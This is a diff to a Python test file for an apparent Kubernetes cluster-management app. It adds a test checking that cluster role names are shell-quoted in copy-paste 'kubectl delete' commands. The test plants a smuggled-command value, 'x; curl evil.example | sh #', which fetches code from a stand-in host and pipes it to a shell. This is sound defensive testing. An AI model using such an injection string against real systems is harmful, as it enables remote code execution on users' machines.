@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import shlex
 from datetime import timedelta
+from html import unescape
 from ipaddress import ip_network
 
 import pytest
@@ -199,6 +201,17 @@ def test_forgetting_names_what_is_there_and_cleans_up(admin_client, admin, serve
     event = AuditEvent.objects.get(action="cluster.forgotten")
     assert (event.actor, event.object_name) == (admin, "shop")
     assert event.after["left"] == []
+
+
+def test_a_name_from_the_cluster_is_no_command_of_the_one_to_be_pasted(admin_client, server):
+    """RBAC takes any name: who may make a role there would run programs on the admin's machine."""
+    cluster = imported(admin_client, server)
+    made_there(server)
+    name = "x; curl evil.example | sh #"
+    server.paths[f"{RBAC}/clusterroles"]["items"] = [{"metadata": {"name": name}}]
+    there = unescape(text_of(admin_client.get(f"/clusters/{cluster.pk}/forget/there/")))
+    commands = there.partition('id="by-hand">')[2].partition("</pre>")[0].splitlines()
+    assert ["kubectl", "delete", "clusterrole", name] in [shlex.split(c) for c in commands]
 
 
 def test_without_the_box_nothing_there_is_touched(admin_client, server):
